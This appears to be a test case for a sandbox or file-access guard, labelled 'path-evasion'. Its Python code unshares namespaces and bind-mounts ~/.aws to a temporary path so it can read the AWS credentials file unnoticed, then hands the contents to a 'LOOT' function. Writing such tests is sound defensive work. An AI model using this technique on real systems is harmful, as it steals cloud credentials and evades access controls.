#: {"class": "path-evasion", "loader": "script", "include": ["raw"], "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
def mount(a, b, t, fl, d=None):
    assert _c.mount(a.encode(), b.encode(), t.encode() if t else None, fl, d.encode() if d else None) == 0, ctypes.get_errno()

assert _c.unshare(0x10000000 | 0x20000) == 0
os.mkdir(TMP + "/m"); mount(HOME + "/.aws", TMP + "/m", "", 4096 | 16384)
LOOT(open(TMP + "/m/credentials").read())
